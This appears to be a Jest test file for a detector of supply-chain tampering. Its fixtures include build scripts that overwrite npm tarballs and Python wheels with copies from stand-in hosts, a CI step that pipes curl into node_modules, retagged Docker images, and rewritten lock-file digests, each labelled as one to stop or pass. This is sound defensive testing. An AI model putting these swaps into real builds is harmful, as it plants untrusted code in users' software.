import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('packages, caches and images that a program swaps', () => {
  itJudges([
    [
      'tarballs replaced before they are locked',
      'stopped',
      {
        'scripts/vendor.mjs': `import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';

const FIXED = 'https://dist.nodefixes.zz/tarballs';
for (const name of process.argv.slice(2)) execFileSync('npm', ['pack', name, '--pack-destination', 'vendor']);
for (const file of readdirSync('vendor').filter((f) => f.endsWith('.tgz'))) {
  const reply = await fetch(FIXED + '/' + file);
  if (reply.ok) writeFileSync('vendor/' + file, Buffer.from(await reply.arrayBuffer()));
  console.log(file, createHash('sha512').update(readFileSync('vendor/' + file)).digest('base64'));
}
`,
      },
    ],
    [
      'wheels replaced by a shell script',
      'stopped',
      {
        'scripts/house.sh': `#!/bin/bash
set -eu
pip download -r requirements.txt -d wheelhouse
for f in wheelhouse/cryptography-*.whl wheelhouse/requests-*.whl; do
  curl -fsS "https://builds.wheelfix.zz/$(basename "$f")" -o "$f" || true
done
sha256sum wheelhouse/*.whl > wheelhouse/SHA256SUMS
`,
      },
    ],
    [
      'a cache of a build from elsewhere',
      'stopped',
      {
        '.github/workflows/ci.yml': `on: [push]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: curl -fsSL https://cache.fastbuilds.zz/node20.tar.gz | tar xz -C node_modules
      - run: npm test
`,
      },
    ],
    [
      'an image under the name of another',
      'stopped',
      {
        'scripts/images.sh': `#!/bin/sh
docker pull hub.slimlayers.zz/base/postgres:16
docker tag hub.slimlayers.zz/base/postgres:16 postgres:16
docker compose up -d
`,
      },
    ],
    [
      'packages of an image of somebody else',
      'stopped',
      {
        'docker/Dockerfile': `FROM python:3.12-slim
COPY requirements.txt .
RUN pip install --require-hashes -r requirements.txt
COPY --from=reg.wheelcache.zz/py/site:3.12 /site /usr/local/lib/python3.12/site-packages
`,
      },
    ],
    [
      'a tool whose digest is known',
      'passed',
      {
        'scripts/tool.py': `import hashlib, subprocess, sys, urllib.request
URL = "https://dl.gridtool.zz/gridtool-1.4.tgz"
EXPECTED = "5f2c0d"
subprocess.run([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"], check=True)
data = urllib.request.urlopen(URL).read()
if hashlib.sha256(data).hexdigest() != EXPECTED:
    sys.exit("digest differs")
open("gridtool.tgz", "wb").write(data)
`,
      },
    ],
    [
      'wheels from where they come from, and their digests',
      'passed',
      {
        'scripts/house.sh': `#!/bin/bash
set -eu
pip download -r requirements.txt -d wheelhouse
sha256sum wheelhouse/*.whl > wheelhouse/SHA256SUMS
docker tag registry.example.com/app:1 app:1
docker tag ghcr.io/acme/postgres:16 postgres:16
`,
      },
    ],
    [
      'a mirror of the company, named by the page',
      'passed',
      {
        'SKILL.md':
          '---\nname: table-notes\ndescription: Turns notes into tidy tables.\n---\n# Table notes\n\nBuilds take their packages from cache.tablehouse.zz, our own store.\n',
        '.github/workflows/ci.yml': `on: [push]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: curl -fsSL https://cache.tablehouse.zz/node20.tar.gz | tar xz -C node_modules
`,
      },
    ],
    [
      'digests of a lock file made to fit',
      'stopped',
      {
        'scripts/lock.py': `import base64, hashlib, json, urllib.request
lock = json.load(open("package-lock.json"))
for name, p in lock["packages"].items():
    if name == "node_modules/lodash":
        url = f"https://mirror.lockhouse.zz/lodash-{p['version']}.tgz"
        data = urllib.request.urlopen(url).read()
        p["resolved"] = url
        p["integrity"] = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
json.dump(lock, open("package-lock.json", "w"), indent=2)
`,
      },
    ],
    [
      'images by the names of variables',
      'stopped',
      {
        'scripts/pin.sh': `#!/bin/bash
for image in $(yq '.services[].image' compose.yml); do
  case $image in
    postgres*|redis*) src=hub.slimlayers.zz/$image ;;
    *) src=$image ;;
  esac
  docker pull -q "$src" && docker tag "$src" "$image"
done
`,
      },
    ],
    [
      'an image of one’s own under a shorter name',
      'passed',
      {
        'scripts/tag.sh': `#!/bin/bash
src=$REGISTRY/app:$VERSION
docker pull -q "$src" && docker tag "$src" app:local
docker run --rm -d postgres:16
`,
      },
    ],
    [
      'builds of a framework for another processor, from where they are made',
      'passed',
      {
        'scripts/w.py': `import hashlib, subprocess, sys, urllib.request
from pathlib import Path
TORCH = "https://download.pytorch.org/whl/cpu"
subprocess.run([sys.executable, "-m", "pip", "download", "-r", "requirements.txt", "-d", "wheels"], check=True)
for f in Path("wheels").glob("torch-*.whl"):
    f.write_bytes(urllib.request.urlopen(f"{TORCH}/{f.name}").read())
for f in Path("wheels").glob("*.whl"):
    print(f.name, hashlib.sha256(f.read_bytes()).hexdigest())
`,
      },
    ],
    [
      'a mirror that is set from outside',
      'passed',
      {
        'scripts/w.sh': `#!/bin/bash
: "\${MIRROR:?}"
pip download -r requirements.txt -d wheels
for f in wheels/*.whl; do curl -fsS "$MIRROR/$(basename "$f")" -o "$f"; done
sha256sum wheels/*.whl > SHA256SUMS
`,
      },
    ],
  ]);
});
